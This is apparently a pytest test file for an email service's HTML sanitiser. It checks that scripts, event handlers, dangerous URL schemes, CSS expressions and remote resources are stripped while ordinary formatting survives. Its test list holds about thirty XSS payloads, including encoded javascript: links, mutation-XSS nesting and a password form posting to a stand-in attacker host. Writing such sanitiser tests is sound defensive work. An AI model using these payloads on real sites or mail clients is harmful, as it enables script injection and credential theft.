"""The sanitiser must neutralise hostile HTML while keeping ordinary email formatting."""

from __future__ import annotations

import re

import pytest

from email_service.mail.mime.parse import html_to_text
from email_service.mail.sanitize.html import Link, extract_html, sanitize_html

NASTY = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="jav&#97;script&colon;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" OnError="alert(1)">',
    "<body onload=alert(1)>hi</body>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background-image: url(&quot;https://track.example/p.gif&quot;)">x</div>',
    '<div style="color: red; behavior: url(x.htc); -moz-binding: url(x.xml#xss)">x</div>',
    "<iframe src=https://evil.example></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    '<form action="https://evil.example"><input name=pw type=password></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<!--<script>alert(1)</script>-->",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
]
_HANDLER = re.compile(r"\son[a-z]+\s*=", re.IGNORECASE)


@pytest.mark.parametrize("html", NASTY)
def test_nasty_input_is_neutralised(html: str) -> None:
    out = sanitize_html(html).lower()
    assert "<script" not in out
    assert "javascript:" not in out
    assert "vbscript:" not in out
    assert "data:" not in out
    assert not _HANDLER.search(out)
    assert "expression(" not in out
    assert "url(" not in out
    for tag in (
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<svg",
        "<meta",
        "<base",
        "<link",
        "<style",
    ):
        assert tag not in out


def test_remote_images_do_not_load_but_keep_their_url() -> None:
    out = sanitize_html('<img src="https://track.example/o.gif?u=1" alt="a"><img src="//cdn.example/x.png">')
    assert " src=" not in out
    assert 'data-remote-src="https://track.example/o.gif?u=1"' in out
    assert 'data-remote-src="//cdn.example/x.png"' in out


def test_cid_images_are_kept_and_data_images_dropped() -> None:
    out = sanitize_html('<img src="cid:logo@x"><img src="data:image/png;base64,AAAA"><img src="rel.png">')
    assert 'src="cid:logo@x"' in out
    assert out.count(" src=") == 1


def test_links_open_in_new_tab_without_referrer() -> None:
    out = sanitize_html('<a href="https://example.org/a" target="_self">go</a>')
    assert 'href="https://example.org/a"' in out
    assert 'rel="noopener noreferrer nofollow"' in out
    assert 'target="_blank"' in out
    assert "_self" not in out


def test_formatting_and_tables_survive() -> None:
    html = (
        '<table border="1" cellpadding="2"><tr><td colspan="2" style="color: red; padding: 4px">'
        "<b>bold</b> <i>it</i> <u>u</u></td></tr></table><ul><li>one</li></ul><blockquote>q</blockquote>"
    )
    out = sanitize_html(html)
    for fragment in ("<table", 'colspan="2"', "color: red", "padding: 4px", "<b>bold</b>", "<li>one</li>"):
        assert fragment in out
    assert "<blockquote>q</blockquote>" in out


def test_script_and_style_bodies_are_removed_not_shown_as_text() -> None:
    out = sanitize_html("<style>p { color: red }</style><script>var secret = 1;</script><p>hello</p>")
    assert out == "<p>hello</p>"


def test_empty_and_garbage_input() -> None:
    assert sanitize_html("") == ""
    assert sanitize_html("   ") == ""
    assert "&lt;" in sanitize_html("<<<>>>") or sanitize_html("<<<>>>") == "&lt;&lt;&gt;&gt;&gt;"


def test_extract_html_reads_links_from_original_html() -> None:
    html = (
        '<p>Dear customer</p><a href="http://198.51.100.7/x">https://bank.example/</a>'
        '<a href="https://t.example"><img src="x" alt="Click here"></a><a name="anchor">no href</a>'
        '<script>var a = "<a href=http://hidden>";</script>'
    )
    extract = extract_html(html)
    assert extract.links == (
        Link(href="http://198.51.100.7/x", text="https://bank.example/"),
        Link(href="https://t.example", text="Click here"),
    )
    assert "Dear customer" in extract.text
    assert "hidden" not in extract.text


def test_html_to_text_keeps_structure_and_decodes_entities() -> None:
    text = html_to_text(
        "<html><head><title>T</title><style>x{}</style></head><body><h1>Sale</h1>"
        "<p>Up&nbsp;to 90%&hellip;</p><table><tr><td>a</td><td>b</td></tr></table>caf&eacute;</body></html>"
    )
    assert text.splitlines()[0] == "Sale"
    assert "Up to 90%…" in text
    assert "a b" in text
    assert "café" in text
    assert "x{}" not in text
    assert "T" not in text.split()
